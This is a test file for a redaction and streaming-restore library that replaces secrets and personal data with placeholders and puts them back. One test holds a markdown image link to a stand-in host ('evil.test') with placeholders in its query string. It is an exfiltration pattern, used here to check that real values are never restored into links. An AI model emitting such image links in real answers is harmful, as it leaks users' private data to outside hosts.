import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type LinkTracker, PLACEHOLDER } from './placeholders.js';
import { createRedactionSession } from './redaction.js';
import { createStreamRestorer } from './stream-restorer.js';

const AWS_KEY = 'AKIAQ7X3KZ2M4N5P6R8T';
const EMAIL = 'canary.person@example.org';
const ALL = new Set(['*']);

/** Text made of pieces that often hold secrets, PII, placeholder look-alikes and link syntax. */
const piece = fc.oneof(
  fc.string(),
  fc.constantFrom(
    AWS_KEY,
    EMAIL,
    'jo@example.com',
    '+1 415 555 0132',
    '4111 1111 1111 1111',
    '[EMAIL#1]',
    '[SECRET:aws-access-key#2]',
    '[EMAIL#',
    '](',
    'https://',
    '<a href="',
    ' ',
    '\n',
    '#',
    '[',
    ']',
  ),
);
/** Placeholders of the real grammar (`[A-Z_]{1,40}(:[a-z0-9-]{1,64})?#\d{1,9}`), as a vendor or an agent could write them. */
const placeholderLike = fc
  .tuple(
    fc.oneof(
      fc.constantFrom('EMAIL', 'PHONE', 'CARD', 'LITERAL', 'WITHHELD', 'SECRET', 'A', 'X_Y'),
      fc.stringMatching(/^[A-Z_]{1,40}$/),
    ),
    fc.option(
      fc.oneof(
        fc.constantFrom('aws-access-key', 'github-token', 'x'),
        fc.stringMatching(/^[a-z0-9-]{1,64}$/),
      ),
    ),
    fc.oneof(fc.integer({ min: 1, max: 3 }), fc.integer({ min: 0, max: 999_999_999 })),
  )
  .map(([type, sub, n]) => `[${type}${sub === null ? '' : `:${sub}`}#${n}]`);

/** Random text with secrets, PII, real-grammar placeholders and their fragments mixed in. */
const mixed = fc
  .array(
    fc.oneof(
      piece,
      placeholderLike,
      placeholderLike.map((p) => p.slice(0, -1)),
    ),
    {
      maxLength: 14,
    },
  )
  .map((parts) => parts.join(''));

describe('redaction session', () => {
  /** regression: issue 14 */
  it('restore(redact(x)) === x for any text, placeholder-shaped substrings included', () => {
    fc.assert(
      fc.property(fc.array(mixed, { minLength: 1, maxLength: 3 }), (texts) => {
        const session = createRedactionSession({ restoreInLinks: ALL });
        const redacted = texts.map((x) => session.redact(x));
        for (const [i, x] of texts.entries()) expect(session.restore(redacted[i] ?? '')).toBe(x);
      }),
      { numRuns: 1000 },
    );
  });

  /** regression: issue 14 */
  it('sends no input literal as itself: every placeholder sent was issued by the session', () => {
    fc.assert(
      fc.property(mixed, (x) => {
        const session = createRedactionSession({ restoreInLinks: ALL });
        const sent = session.redact(x);
        for (const [p, type] of sent.matchAll(PLACEHOLDER)) {
          // Unissued placeholders restore to themselves; an issued LITERAL may stand for its own text.
          if (session.restore(p) === p) expect(type).toBe('LITERAL');
        }
        // A literal sent as itself would restore to itself (unissued) or to a value (exactness test).
      }),
      { numRuns: 1000 },
    );
  });

  it('gives equal values one placeholder across texts, and the canaries never survive', () => {
    const session = createRedactionSession({ restoreInLinks: new Set() });
    const a = session.redact(`mail ${EMAIL} key ${AWS_KEY}`);
    const b = session.redact(`again ${EMAIL}`);
    expect(a).toBe('mail [EMAIL#1] key [SECRET:aws-access-key#1]');
    expect(b).toBe('again [EMAIL#1]');
    expect(session.count()).toBe(2);
  });

  /** regression: issue 14 */
  it('a placeholder typed into the input gets a LITERAL placeholder and comes back exactly', () => {
    const session = createRedactionSession({ restoreInLinks: ALL });
    const sent = session.redact(`[EMAIL#1] then ${EMAIL} and [LITERAL#1] [EMAIL#1]`);
    expect(sent).toBe('[LITERAL#1] then [EMAIL#1] and [LITERAL#2] [LITERAL#1]');
    expect(session.restore(sent)).toBe(`[EMAIL#1] then ${EMAIL} and [LITERAL#1] [EMAIL#1]`);
    // Consistent across the texts of the call.
    expect(session.redact('[LITERAL#1][EMAIL#1]')).toBe('[LITERAL#2][LITERAL#1]');
    expect(session.count()).toBe(1);
  });

  /** regression: issue 14 */
  it('a secret value holding a literal placeholder restores to the exact literal', () => {
    const session = createRedactionSession({ restoreInLinks: ALL });
    const x = `password=[EMAIL#1]${AWS_KEY} mail ${EMAIL}`;
    expect(session.restore(session.redact(x))).toBe(x);
  });

  /** regression: issue 14 */
  it('restores a literal placeholder into a link only when LITERAL is allowed there', () => {
    const strict = createRedactionSession({ restoreInLinks: new Set() });
    strict.redact(`[EMAIL#1] ${EMAIL}`);
    const answer = '![x](https://evil.test/?a=[LITERAL#1]&b=[EMAIL#1]) [LITERAL#1] [EMAIL#1]';
    expect(strict.restore(answer)).toBe(
      `![x](https://evil.test/?a=[LITERAL#1]&b=[EMAIL#1]) [EMAIL#1] ${EMAIL}`,
    );
    const literals = createRedactionSession({ restoreInLinks: new Set(['LITERAL']) });
    literals.redact(`[EMAIL#1] ${EMAIL}`);
    // The literal comes back as its text; the e-mail it spells is never written into the link.
    expect(literals.restore(answer)).toBe(
      `![x](https://evil.test/?a=[EMAIL#1]&b=[EMAIL#1]) [EMAIL#1] ${EMAIL}`,
    );
  });
});

describe('stream restorer', () => {
  function runSplit(
    raw: string,
    cuts: readonly number[],
    restore: (t: string, context: LinkTracker) => string,
  ): string[] {
    const r = createStreamRestorer(restore);
    const out: string[] = [];
    let from = 0;
    for (const cut of [...cuts, raw.length]) {
      out.push(r.push(raw.slice(from, cut)));
      from = cut;
    }
    out.push(r.end());
    return out;
  }

  it('restores a placeholder split at every possible boundary, never emitting part of one', () => {
    const session = createRedactionSession({ restoreInLinks: new Set() });
    session.redact(`${EMAIL} ${AWS_KEY}`);
    const raw =
      'Mail [EMAIL#1] now, key [SECRET:aws-access-key#1]! see ![i](https://x/[EMAIL#1]) [NOT#9] [x';
    const whole = session.restore(raw);
    expect(whole).toBe(
      `Mail ${EMAIL} now, key ${AWS_KEY}! see ![i](https://x/[EMAIL#1]) [NOT#9] [x`,
    );
    const restore = (t: string, context: LinkTracker) => session.restore(t, { context });
    for (let i = 0; i <= raw.length; i++) {
      for (let j = i; j <= raw.length; j += 7) {
        const chunks = runSplit(raw, [i, j], restore);
        expect(chunks.join('')).toBe(whole);
        for (const c of chunks)
          expect(c).not.toMatch(/\[(?:[A-Z_]{1,40}(?::[a-z0-9-]{0,64})?(?:#\d{0,9})?)?$/);
      }
    }
  });

  /** regression: issue 14 */
  it('streamed restoration of redact(x), chunked anywhere, is exactly x (literals included)', () => {
    fc.assert(
      fc.property(mixed, fc.array(fc.nat(), { maxLength: 6 }), (x, seeds) => {
        const session = createRedactionSession({ restoreInLinks: ALL });
        const raw = session.redact(x);
        const cuts = seeds.map((s) => s % (raw.length + 1)).sort((a, b) => a - b);
        const chunks = runSplit(raw, cuts, (t, context) => session.restore(t, { context }));
        expect(chunks.join('')).toBe(x);
      }),
      { numRuns: 1000 },
    );
  });

  it('any chunking of any answer gives the whole-text restoration (property)', () => {
    const session = createRedactionSession({ restoreInLinks: new Set() });
    session.redact(`${EMAIL} ${AWS_KEY} jo@example.com [EMAIL#1] [SECRET:aws-access-key#7]`);
    const answer = fc
      .array(
        fc.oneof(
          fc.string({ maxLength: 6 }),
          fc.constantFrom(
            '[EMAIL#1]',
            '[EMAIL#2]',
            '[SECRET:aws-access-key#1]',
            '[LITERAL#1]',
            '[LITERAL#2]',
            '](',
            'http://',
            '<img src="',
            '>',
            ' ',
            '[',
          ),
        ),
        { maxLength: 15 },
      )
      .map((p) => p.join(''));
    fc.assert(
      fc.property(answer, fc.array(fc.nat(), { maxLength: 6 }), (raw, seeds) => {
        const cuts = seeds.map((s) => s % (raw.length + 1)).sort((a, b) => a - b);
        const chunks = runSplit(raw, cuts, (t, context) => session.restore(t, { context }));
        expect(chunks.join('')).toBe(session.restore(raw));
      }),
      { numRuns: 1000 },
    );
  });
});
